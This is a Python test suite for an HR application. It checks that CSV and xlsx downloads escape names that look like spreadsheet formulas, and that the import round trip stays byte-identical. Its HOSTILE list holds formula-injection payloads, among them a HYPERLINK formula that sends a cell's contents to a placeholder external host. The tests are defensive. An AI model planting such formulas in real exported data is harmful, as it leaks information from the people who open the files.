"""Formula injection (issue 18): a name that starts like a formula comes out of every CSV and
xlsx download as text, never as something a spreadsheet program runs; the import format's round
trip stays byte-identical because the importer reverses the CSV escape."""

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from binnenwerk.formatting import FORMULA_STARTS, csv_cell, csv_cell_unescape
from binnenwerk.imports.exporters import export_path
from binnenwerk.imports.readers import read_path
from binnenwerk.imports.services import import_dataset
from binnenwerk.people.models import Medewerker
from tests.contracts.factories import account, employee
from tests.factories import TeamFactory
from tests.opportunities.factories import KansFactory
from tests.outflow.factories import left
from tests.recruitment.factories import kandidaat

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?"&A1,"klik")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
]
TODAY = dt.date.today()


@given(st.text())
def test_unescape_reverses_the_escape_for_every_text(text):
    assert csv_cell_unescape(csv_cell(text)) == text


@given(st.text(min_size=1))
def test_no_escaped_text_starts_like_a_formula_unless_it_is_a_number(text):
    cell = csv_cell(text)
    if cell.startswith(FORMULA_STARTS):
        Decimal(cell.rstrip("%").replace(".", "").replace(",", "."))  # a plain number


def test_numbers_and_plain_text_stay_as_they_are():
    assert [csv_cell(v) for v in (-3, Decimal("-1.50"), "-1.102,65", "12%", "'t Hart")] == [
        "-3",
        "-1.50",
        "-1.102,65",
        "12%",
        "'t Hart",
    ]


def _cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    header = text.split("\n", 1)[0]
    delimiter = ";" if header.count(";") > header.count(",") else ","
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def _assert_csv_safe(content: bytes) -> None:
    cells = _cells(content)
    assert any(cell.startswith("'=") for cell in cells), "the hostile value is in the file"
    for cell in cells:
        if cell.startswith(FORMULA_STARTS):
            Decimal(cell.rstrip("%").replace(".", "").replace(",", "."))


def _assert_xlsx_safe(content: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(n) for n in sheets)
    workbook = load_workbook(io.BytesIO(content))
    values = [c.value for ws in workbook for row in ws.iter_rows() for c in row]
    assert HOSTILE[0] in values and all(
        c.data_type != "f" for ws in workbook for row in ws.iter_rows() for c in row
    )


def test_every_download_with_names_opens_as_text(client):
    """The people export, the candidates board, the outflow list, the contract worklist and the
    opportunities list, each with a formula for a name."""
    team = TeamFactory(code="FORM")
    employee(
        team,
        TODAY - dt.timedelta(days=300),
        TODAY + dt.timedelta(days=20),
        person=Medewerker.objects.create(
            personeelsnummer="900001", voornaam=HOSTILE[0], achternaam=HOSTILE[1]
        ),
    )
    left(dt.date(2023, 6, 30), voornaam=HOSTILE[0], achternaam=HOSTILE[3])
    kandidaat(voornaam=HOSTILE[0], achternaam=HOSTILE[4], team=team)
    KansFactory(titel=HOSTILE[0])
    downloads = {
        "beheerder": ["/export/"],
        "werving": ["/werving/bord.csv", "/kansen/kansen.csv"],
        "personeelszaken": [
            "/uitstroom/lijst.csv?jaar=2023",
            f"/contracten/werklijst.csv?peildatum={TODAY:%Y-%m-%d}",
        ],
    }
    for role, urls in downloads.items():
        client.force_login(account(role, role))
        for url in urls:
            response = client.get(url)
            assert response.status_code == 200, url
            content = b"".join(response) if response.streaming else response.content
            if url.endswith("/export/"):
                _assert_xlsx_safe(content)
            else:
                _assert_csv_safe(content)


def test_the_import_format_round_trip_stays_byte_identical(tmp_path):
    team = TeamFactory(code="RT")
    # As the importer stores them: text cells are trimmed, so no leading tab or return.
    names = [name for name in HOSTILE if name == name.strip()]
    for number, name in enumerate(names, start=1):
        employee(
            team,
            dt.date(2020, 1, 1),
            None,
            person=Medewerker.objects.create(
                personeelsnummer=f"80000{number}", voornaam=name, achternaam="Proef"
            ),
        )
    first = export_path(tmp_path / "een")
    xlsx = export_path(tmp_path / "een.xlsx")[0]
    _assert_xlsx_safe(xlsx.read_bytes())
    people = (tmp_path / "een" / "medewerkers.csv").read_bytes()
    assert b"'=1+1" in people and b"''=1+1" in people
    # Import both into the same data (nothing changes), then export again: the same bytes.
    for source in (tmp_path / "een", xlsx):
        report = import_dataset(actor=None, dataset=read_path(source))
        assert report.created_total == report.updated_total == 0
    again = export_path(tmp_path / "twee")
    assert [p.read_bytes() for p in first] == [p.read_bytes() for p in again]
    assert {m.voornaam for m in Medewerker.objects.filter(achternaam="Proef")} == set(names)
